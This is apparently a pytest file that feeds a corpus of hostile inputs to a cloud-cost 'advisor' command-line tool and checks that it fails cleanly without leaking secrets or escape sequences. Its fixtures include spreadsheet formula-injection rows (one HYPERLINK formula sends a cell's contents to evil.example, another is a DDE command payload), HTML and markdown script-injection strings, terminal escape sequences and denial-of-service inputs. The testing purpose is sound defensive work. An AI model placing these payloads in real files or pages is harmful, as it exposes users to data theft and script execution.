"""The hostile-input corpus (cases.yaml): every case runs the real command in a fresh folder and
ends with its expected exit code and message, no traceback, no secret and no escape sequence in
what it prints. Each case's time is measured and written to the test's report (not asserted)."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import random
import shutil
import subprocess
import sys
import time
import xml.etree.ElementTree as ET
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

HERE = Path(__file__).parent
DATA = HERE.parent / "data"
CASES = yaml.safe_load((HERE / "cases.yaml").read_text(encoding="utf-8"))
FOCUS_HEADER = ["BillingAccountId", "BillingCurrency", "BillingPeriodStart", "BillingPeriodEnd",
                "ChargePeriodStart", "ChargePeriodEnd", "ChargeCategory", "ProviderName",
                "ServiceProviderName", "ServiceName", "ResourceId", "BilledCost",
                "EffectiveCost", "ListCost", "Tags"]


def _bill_row(service: str = "Amazon S3", account: str = "111122223333",
              cost: str = "12.50") -> list[str]:
    return [account, "EUR", "2026-10-01T00:00:00Z", "2026-11-01T00:00:00Z",
            "2026-10-01T00:00:00Z", "2026-10-02T00:00:00Z", "Usage", "AWS", "AWS", service,
            "arn:aws:s3:::bucket", cost, cost, cost, ""]


def _write_bill(path: Path, rows: list[list[str]]) -> None:
    with path.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh, lineterminator="\n")
        writer.writerow(FOCUS_HEADER)
        writer.writerows(rows)


# -- generators named by cases.yaml ---------------------------------------------------------------

def hostile_pack(root: Path, args: dict[str, str]) -> None:
    pattern = args["pattern"]
    if pattern == "nested":
        pattern = "(" * 1500 + "a" + ")" * 1500
    elif pattern == "nested-short":
        pattern = "(" * 400 + "a" + ")" * 400
    pack = {"pack": "hostile", "title": "Hostile", "reviewed": "2026-12-01", "rules": [{
        "id": "HOST-001", "title": "Tickets follow the pattern", "severity": "error",
        "basis": "local",
        "require_labels": [{"key": "ticket", "pattern": pattern}]}]}
    folder = root / "estate" / "policies"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "hostile.yaml").write_text(yaml.safe_dump(pack), encoding="utf-8")
    workloads = root / "estate" / "workloads.yaml"
    if workloads.exists():
        doc = yaml.safe_load(workloads.read_text(encoding="utf-8"))
        for w in doc["workloads"]:
            w.setdefault("labels", {})["ticket"] = args["label"]
        workloads.write_text(yaml.safe_dump(doc, sort_keys=False), encoding="utf-8")


def damaged_parquet(root: Path, args: dict[str, str]) -> None:
    """A FOCUS Parquet file with a few bytes changed: its metadata still reads, its pages do
    not (DuckDB: "TProtocolException: Invalid data" while it scans, not while it opens)."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    two = ["a", "b"]
    columns: dict[str, list[Any]] = {name: two for name in FOCUS_HEADER}
    columns.update({"BillingCurrency": ["EUR"] * 2, "ProviderName": ["AWS"] * 2,
                    "BillingPeriodStart": ["2026-10-01T00:00:00Z"] * 2,
                    "BillingPeriodEnd": ["2026-11-01T00:00:00Z"] * 2,
                    "ChargePeriodStart": ["2026-10-01T00:00:00Z"] * 2,
                    "ChargePeriodEnd": ["2026-10-02T00:00:00Z"] * 2,
                    "ChargeCategory": ["Usage"] * 2, "BilledCost": ["1.5", "2"],
                    "EffectiveCost": [1.5, 2.0], "ListCost": [1.5, 2.0], "Tags": ["{}", "{}"]})
    pq.write_table(pa.table(columns), root / "ok.parquet")
    raw = bytearray((root / "ok.parquet").read_bytes())
    (root / "ok.parquet").unlink()
    rng = random.Random(74)
    for _ in range(rng.randrange(1, 5)):
        raw[rng.randrange(0, len(raw))] = rng.randrange(256)
    (root / "bill.parquet").write_bytes(bytes(raw))


def nested_plan(root: Path, args: dict[str, str]) -> None:
    depth = 200_000
    (root / "plan.json").write_text('{"format_version": "1.2", "resource_changes": '
                                    + "[" * depth + "]" * depth + "}", encoding="utf-8")


def plain_bill(root: Path, args: dict[str, str]) -> None:
    _write_bill(root / "bill.csv", [_bill_row()])
    shutil.copyfile(root / "bill.csv", root / "glob[1].csv")
    (root / "glob1.csv").write_text("not this one\n", encoding="utf-8")


def forty_digits(root: Path, args: dict[str, str]) -> None:
    _write_bill(root / "bill.csv", [_bill_row(cost="1" + "0" * 39)])


def big_field(root: Path, args: dict[str, str]) -> None:
    _write_bill(root / "bill.csv", [_bill_row(service="S" * (10 << 20))])


def formula_bill(root: Path, args: dict[str, str]) -> None:
    _write_bill(root / "bill.csv", [
        _bill_row(service='=HYPERLINK("http://evil.example/?"&A1,"x")'),
        _bill_row(service="@SUM(1+1)", cost="1.00"),
        _bill_row(service="ok", account="+cmd|' /C calc'!A0", cost="2.00"),
        _bill_row(service="-2+3", cost="-3.00")])


def utf16_plan(root: Path, args: dict[str, str]) -> None:
    text = (root / "estate" / "terraform" / "plan.json").read_text(encoding="utf-8")
    (root / "plan16.json").write_bytes(text.encode("utf-16"))  # with a byte order mark


def dangling_link(root: Path, args: dict[str, str]) -> None:
    (root / "target").mkdir()
    (root / "target" / "advisor.yaml").symlink_to(root / "outside.yaml")


def _edit_workloads(root: Path, edit: Callable[[dict[str, Any]], None]) -> None:
    path = root / "estate" / "workloads.yaml"
    doc = yaml.safe_load(path.read_text(encoding="utf-8"))
    edit(doc["workloads"][0])  # web
    path.write_text(yaml.safe_dump(doc, sort_keys=False, allow_unicode=False),
                    encoding="utf-8")


def escape_names(root: Path, args: dict[str, str]) -> None:
    def edit(w: dict[str, Any]) -> None:
        w["name"] = "web\x1b]0;pwned\x07"
        w["application"] = "site\x1b[31mRED\x9b2J"
    _edit_workloads(root, edit)


def control_names(root: Path, args: dict[str, str]) -> None:
    def edit(w: dict[str, Any]) -> None:
        w["name"] = "chat\x01bot \ufffe<b>"
        w["application"] = "chat\x01bot"
    _edit_workloads(root, edit)
    doc = {"waivers": [{"rule": "SOV-004", "workload": "care", "reason": "chat\x01bot \x0c",
                        "owner": "o\x02wner", "expires": "2027-03-31"}]}
    (root / "estate" / "waivers.yaml").write_text(yaml.safe_dump(doc), encoding="utf-8")


def hostile_waiver(root: Path, args: dict[str, str]) -> None:
    reason = ('<img src=x onerror=alert(1)> [click](javascript:alert(1)) '
              '![t](http://evil.example/t.png) @admin #1 </details><script>x</script> | `x`')
    doc = {"waivers": [{"rule": "SOV-004", "workload": "care", "reason": reason,
                        "owner": "@admin <a href=javascript:x>o</a>", "expires": "2027-03-31"}]}
    (root / "estate" / "waivers.yaml").write_text(yaml.safe_dump(doc), encoding="utf-8")


MAKERS: dict[str, Callable[[Path, dict[str, str]], None]] = {
    "hostile-pack": hostile_pack, "damaged-parquet": damaged_parquet, "nested-plan": nested_plan,
    "plain-bill": plain_bill, "forty-digits": forty_digits, "big-field": big_field,
    "formula-bill": formula_bill, "utf16-plan": utf16_plan, "dangling-link": dangling_link,
    "escape-names": escape_names, "control-names": control_names,
    "hostile-waiver": hostile_waiver,
}


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.mark.parametrize("case", CASES, ids=[c["id"] for c in CASES])
def test_hostile_case(case: dict[str, Any], tmp_path: Path,
                      record_property: Callable[[str, object], None]) -> None:
    if case.get("estate"):
        shutil.copytree(DATA / case["estate"], tmp_path / "estate")
    for name, text in (case.get("files") or {}).items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text, encoding="utf-8")
    for maker in case.get("make", []):
        MAKERS[maker](tmp_path, case.get("make_args", {}))
    before = {p: _digest(tmp_path / p) for p in case.get("unchanged", [])}
    env = {k: v for k, v in os.environ.items()
           if not k.startswith(("AWS_", "AZURE_", "ADVISOR_"))}
    env.update({"HOME": str(tmp_path), "NO_COLOR": "1", **case.get("env", {})})
    full = case.get("stdout") == "/dev/full"
    out_file = open(os.devnull if not full else "/dev/full", "wb") if full else None  # noqa: SIM115
    started = time.monotonic()
    try:
        done = subprocess.run([sys.executable, "-m", "advisor", *case["command"]],
                              cwd=tmp_path, env=env, timeout=120,
                              stdout=out_file if full else subprocess.PIPE,
                              stderr=subprocess.PIPE)
    finally:
        if out_file is not None:
            out_file.close()
    seconds = time.monotonic() - started
    record_property("seconds", round(seconds, 2))
    print(f"{case['id']}: {seconds:.2f} s")
    out = (done.stdout or b"").decode("utf-8", "replace")
    err = done.stderr.decode("utf-8", "replace")
    assert done.returncode == case["exit"], f"exit {done.returncode}\n{err}\n{out[:2000]}"
    assert "Traceback" not in err, err
    for fragment in case.get("stderr", []):
        assert fragment in err, f"{fragment!r} not in stderr:\n{err}"
    if isinstance(case.get("stdout"), list):
        for fragment in case["stdout"]:
            assert fragment in out, f"{fragment!r} not in stdout:\n{out[:3000]}"
    for text in case.get("absent", []):
        assert text not in out and text not in err, f"{text!r} was printed:\n{err}\n{out[:3000]}"
    for p, digest in before.items():
        assert _digest(tmp_path / p) == digest, f"{p} was changed"
    for name in case.get("missing", []):
        assert not (tmp_path / name).exists(), f"{name} was written"
    parses = case.get("parses")
    if parses == "xml":
        ET.fromstring(out)
    elif parses == "json":
        json.loads(out)
    elif parses == "csv":
        rows = list(csv.reader(io.StringIO(out)))
        assert len({len(r) for r in rows}) == 1
    if case.get("balanced_details"):
        assert out.count("<details>") == out.count("</details>")
